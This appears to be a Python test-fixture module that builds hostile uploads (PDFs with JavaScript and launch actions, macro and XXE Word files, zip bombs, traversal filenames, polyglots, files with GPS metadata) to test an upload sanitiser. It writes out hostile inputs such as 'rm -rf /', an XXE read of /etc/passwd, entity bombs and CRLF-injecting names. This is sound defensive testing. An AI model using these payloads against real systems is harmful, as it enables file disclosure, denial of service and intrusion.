"""Hostile files of many kinds: those that must be refused, and those that may be kept once they are cleaned."""

from __future__ import annotations

import struct
import zlib

import pikepdf

from tests.papers.handmade import (
    HTML,
    SHEET,
    SVG,
    File,
    box,
    film,
    flat_png,
    links,
    nested_film,
    package,
    pdf,
    picture,
    png_chunks,
    sound,
    waves,
    with_gps,
    zipped,
)  # fmt: skip


def _javascript(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('CANARY')")


def _named_javascript(document: pikepdf.Pdf) -> None:
    action = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('CANARY')"))
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", action])))


def _launch(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def _on_page(name: str) -> object:
    def change(document: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name(f"/{name}"), F="http://evil.example/CANARY")
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action, Rect=[0, 0, 9, 9])
        document.pages[0].Annots = document.make_indirect(pikepdf.Array([document.make_indirect(link)]))

    return change


def _page_opens(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="CANARY"))


def _carries(document: pikepdf.Pdf) -> None:
    document.attachments["evil.exe"] = b"MZ CANARY"


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(b"<xdp>CANARY</xdp>"), Fields=[])


def _photo_with_place(document: pikepdf.Pdf) -> None:
    photo = pikepdf.Stream(document, with_gps())
    photo.stream_dict = pikepdf.Dictionary(
        Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=64, Height=48, BitsPerComponent=8,
        ColorSpace=pikepdf.Name.DeviceRGB, Filter=pikepdf.Name.DCTDecode,
    )  # fmt: skip
    document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=document.make_indirect(photo)))


def _deep(document: pikepdf.Pdf) -> None:
    one = pikepdf.Array([])
    for _ in range(90):
        one = pikepdf.Array([one])
    document.Root.Deep = one


MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
LOL = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "CANARY">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><l>&j;</l>"
)
XXE = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
REMOTE_DTD = b'<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://evil.example/x.dtd"><d/>'


def zip_bomb() -> bytes:
    return package(more={"word/big.xml": b"<a>" + b" " * 120_000_000 + b"</a>"})


def lying_bomb() -> bytes:
    """A zip whose directory says that the part is small."""
    made = bytearray(package(more={"word/big.xml": b"<a>" + b" " * 90_000_000 + b"</a>"}))
    true = struct.pack("<I", 90_000_007)
    return bytes(made).replace(true, struct.pack("<I", 1000))


def many_parts() -> bytes:
    return package(more={f"word/p{n}.xml": b"<a/>" for n in range(3_500)})


def doubled_part() -> bytes:
    made = bytearray(package(more={"word/documenu.xml": b"<a/>"}))
    return bytes(made).replace(b"documenu", b"document")


def nul_in_part() -> bytes:
    return package(more={"word/a_b.xml": b"<a/>"}).replace(b"a_b.xml", b"a\0b.xml")


def encrypted_zip() -> bytes:
    made = bytearray(package())
    made[6] |= 1
    directory = made.index(b"PK\x01\x02")
    made[directory + 8] |= 1
    return bytes(made)


def _of_no_kind() -> dict[str, File]:
    """Kinds that are refused under any name."""
    return {
        "empty": File("a.jpg", b""),
        "html renamed jpg": File("a.jpg", HTML),
        "html renamed txt": File("a.txt", HTML),
        "html after spaces": File("a.txt", b"  \n\t" + HTML),
        "script inside text": File("a.txt", b"hello <ScRiPt>CANARY"),
        "svg": File("a.svg", SVG),
        "svg renamed png": File("a.png", SVG),
        "svg renamed txt": File("a.txt", SVG),
        "xml renamed txt": File("a.txt", XXE),
        "utf-16 html": File("a.txt", HTML.decode().encode("utf-16")),
        "shell script": File("a.txt", b"#!/bin/sh\nrm -rf /"),
        "program": File("a.exe", b"MZ\x90\x00" + bytes(500)),
        "program renamed txt": File("a.txt", b"MZ\x90\x00" + bytes(500)),
        "elf renamed pdf": File("a.pdf", b"\x7fELF" + bytes(500)),
        "binary renamed txt": File("a.txt", bytes(range(256))),
        "mail renamed txt": File("a.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n\nCANARY"),
        "rtf": File("a.txt", rb"{\rtf1\object CANARY}"),
        "postscript": File("a.txt", b"%!PS-Adobe-3.0 CANARY"),
        "old word": File("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
        "rar": File("a.rar", b"Rar!\x1a\x07\x00" + bytes(60)),
        "plain zip": File("a.zip", zipped({"a.txt": b"a"})),
        "plain zip renamed docx": File("a.docx", zipped({"evil.html": HTML})),
        "jar renamed docx": File("a.docx", zipped({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"\xca\xfe"})),
        "gif": File("a.gif", picture("GIF")),
        "bmp": File("a.bmp", picture("BMP")),
        "tiff": File("a.tiff", picture("TIFF")),
        "icon": File("a.ico", b"\x00\x00\x01\x00" + bytes(60)),
        "heic": File("a.heic", box(b"ftyp", b"heic" + bytes(4)) + box(b"meta", bytes(50))),
        "avif": File("a.avif", box(b"ftyp", b"avif" + bytes(4)) + box(b"meta", bytes(50))),
    }


def _pictures() -> dict[str, File]:
    """Files that only look like pictures, and pictures that are too large."""
    jpeg = picture()
    png = picture("PNG")
    return {
        "half a jpg": File("a.jpg", picture(size=(800, 600))[:800]),
        "head of a jpg": File("a.jpg", jpeg[:12]),
        "half a png": File("a.png", png[: len(png) // 2]),
        "png that is a bomb": File("a.png", png_chunks(width=60_000, height=60_000, pixels=zlib.compress(bytes(99)))),
        "png of 100 million pixels": File("a.png", flat_png(10_000, 10_000)),
        "png with a lie about size": File("a.png", png_chunks(width=8, height=4000, pixels=zlib.compress(bytes(9)))),
        "jpg of no size": File("a.jpg", jpeg.replace(b"\x00\x30\x00\x40", b"\x00\x00\x00\x00")),
        "webp cut off": File("a.webp", picture("WEBP", size=(300, 300))[:60]),
        "riff of something": File("a.wav", b"RIFF\x10\x00\x00\x00AVI LIST" + bytes(60)),
    }


def _pdfs() -> dict[str, File]:
    """PDFs that are active, carry other files, or are broken."""
    return {
        "pdf with JavaScript": File("a.pdf", pdf(_javascript)),
        "pdf with named JavaScript": File("a.pdf", pdf(_named_javascript)),
        "pdf with JavaScript packed away": File(
            "a.pdf", pdf(_named_javascript, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        ),
        "pdf whose page runs when opened": File("a.pdf", pdf(_page_opens)),
        "pdf that launches": File("a.pdf", pdf(_launch)),
        "pdf that submits": File("a.pdf", pdf(_on_page("SubmitForm"))),
        "pdf that opens another": File("a.pdf", pdf(_on_page("GoToR"))),
        "pdf that imports": File("a.pdf", pdf(_on_page("ImportData"))),
        "pdf that carries a program": File("a.pdf", pdf(_carries)),
        "pdf with a form that computes": File("a.pdf", pdf(_xfa)),
        "pdf with a password": File("a.pdf", pdf(encryption=pikepdf.Encryption(user="x", owner="y", R=6))),
        "pdf nested without end": File("a.pdf", pdf(_deep)),
        "pdf cut off": File("a.pdf", pdf()[:60]),
        "pdf of nothing": File("a.pdf", b"%PDF-1.7\n%%EOF"),
    }


def _documents() -> dict[str, File]:
    """Word and Excel files with forbidden contents."""
    return {
        "macros renamed docx": File("a.docx", package(MACRO_WORD, more={"word/vbaProject.bin": b"x"})),
        "macros under a plain type": File("a.docx", package(more={"word/vbaProject.bin": b"CANARY"})),
        "macro-enabled type alone": File("a.xlsx", package("application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        "old macro sheets": File("a.xlsx", package(SHEET, more={"xl/macrosheets/sheet1.xml": b"<a/>"})),
        "an object inside": File("a.docx", package(more={"word/embeddings/oleObject1.bin": b"CANARY"})),
        "ActiveX": File("a.docx", package(more={"word/activeX/activeX1.xml": b"<a/>"})),
        "program inside": File("a.docx", package(more={"word/media/evil.exe": b"MZ"})),
        "entities that grow": File("a.docx", package(part=LOL)),
        "entity that reads a file": File("a.docx", package(part=XXE)),
        "document type from afar": File("a.docx", package(more={"word/styles.xml": REMOTE_DTD})),
        "template from afar": File(
            "a.docx", package(more={"word/_rels/settings.xml.rels": links("attachedTemplate", "http://evil.example/")})
        ),
        "picture from afar": File(
            "a.docx", package(more={"word/_rels/document.xml.rels": links("image", "http://evil.example/CANARY.png")})
        ),
        "object from afar": File(
            "a.xlsx", package(SHEET, more={"xl/_rels/w.rels": links("oleObject", "file://evil.example/x")})
        ),
        "xml that is none": File("a.docx", package(part=b"<d><e></d>")),
    }


def _packages() -> dict[str, File]:
    """Word and Excel files whose zip is malformed."""
    document = package()
    return {
        "zip bomb": File("a.docx", zip_bomb()),
        "zip bomb that lies": File("a.docx", lying_bomb()),
        "too many parts": File("a.docx", many_parts()),
        "part outside": File("a.docx", package(more={"../../evil.xml": b"<a/>"})),
        "part from the root": File("a.docx", package(more={"/etc/evil.xml": b"<a/>"})),
        "part with a backslash": File("a.docx", package(more={"..\\..\\evil.xml": b"<a/>"})),
        "two parts of one name": File("a.docx", doubled_part()),
        "encrypted parts": File("a.docx", encrypted_zip()),
        "half a docx": File("a.docx", document[: len(document) // 2]),
    }


def _sound_and_film() -> dict[str, File]:
    """Files that only look like sound or video."""
    return {
        "film without film": File("a.mp4", box(b"ftyp", b"isom" + bytes(4)) + box(b"free", bytes(40))),
        "film whose box is too long": File("a.mp4", film()[:-100]),
        "film nested without end": File("a.mp4", nested_film()),
        "html in a film": File("a.mp4", box(b"ftyp", b"isom" + bytes(4)) + HTML),
        "sound that is html": File("a.mp3", b"ID3\x03\x00\x00\x00\x00\x00\x00" + HTML),
        "wave without sound": File("a.wav", b"RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00" + bytes(16)),
        "wave that lies about its length": File("a.wav", waves()[:60]),
    }


def _sizes() -> dict[str, File]:
    """Files that are too large."""
    jpeg = picture()
    return {
        "too large": File("a.jpg", b"\xff\xd8\xff" + bytes(21 * 1024 * 1024)),
        "four gigabytes by its own account": File("a.jpg", jpeg, claimed=4 * 1024**3),
        "small by its own account": File("a.jpg", b"\xff\xd8\xff" + bytes(21 * 1024 * 1024), claimed=10),
    }


def _names() -> dict[str, File]:
    """Real photos under misleading names."""
    jpeg = picture()
    return {
        "jpg that is called html": File("a.html", jpeg),
        "jpg that is called svg": File("a.jpg.svg", jpeg),
        "two endings": File("bill.pdf.exe", pdf()),
        "turned writing": File("photo\u202egpj.exe", jpeg),
        "NUL in the name": File("a.jpg\0.html", jpeg),
        "path in the name": File("../../../etc/cron.d/CANARY/../a.jpg", jpeg),
        "Windows path in the name": File("C:\\Windows\\a.jpg", jpeg),
        "line break in the name": File("a\r\nSet-Cookie: x=1\r\n.jpg", jpeg),
        "a name without end": File("长" * 5_000 + ".jpg", jpeg),
        "no name": File("", jpeg),
        "dots for a name": File("...", jpeg),
        "a device for a name": File("CON.jpg", jpeg),
        "half a character in the name": File("a\ud800.jpg", jpeg),
    }


def _telling() -> dict[str, File]:
    """Files with personal metadata."""
    jpeg = picture()
    png = picture("PNG")
    document = package()
    return {
        "photo with its place": File("a.jpg", with_gps()),
        "png with its place": File("a.png", with_gps("PNG")),
        "webp with its place": File("a.webp", with_gps("WEBP")),
        "jpg with a comment": File("a.jpg", picture(comment=b"CANARY <script>")),
        "png with text": File("a.png", png_chunks((b"tEXt", b"Comment\0CANARY <script>"))),
        "jpg with a zip behind": File("a.jpg", jpeg + zipped({"CANARY.html": HTML})),
        "jpg with html behind": File("a.jpg", jpeg + HTML),
        "png with html behind": File("a.png", png + HTML),
        "pdf with a photo and its place": File("a.pdf", pdf(_photo_with_place)),
        "pdf with html behind": File("a.pdf", pdf() + HTML),
        "docx with a photo and its place": File("a.docx", package(more={"word/media/i.jpg": with_gps()})),
        "docx behind html": File("a.docx", document + b"CANARY"),
        "film with its place": File("a.mp4", film(told=True)),
        "sound with a tag": File("a.mp3", sound(tag=b"ID3\x03\x00\x00\x00\x00\x00\x0a<script>CA")),
        "wave with more": File("a.wav", waves(b"LIST\x0a\x00\x00\x00CANARY1234")),
    }


def hostile() -> dict[str, tuple[File, bool]]:
    """Hostile files by what they are: the file, and whether it may be kept once it has been cleaned."""
    refused = (_of_no_kind, _pictures, _pdfs, _documents, _packages, _sound_and_film, _sizes)
    cleaned = (_names, _telling)
    return {name: (file, False) for files in refused for name, file in files().items()} | {
        name: (file, True) for files in cleaned for name, file in files().items()
    }
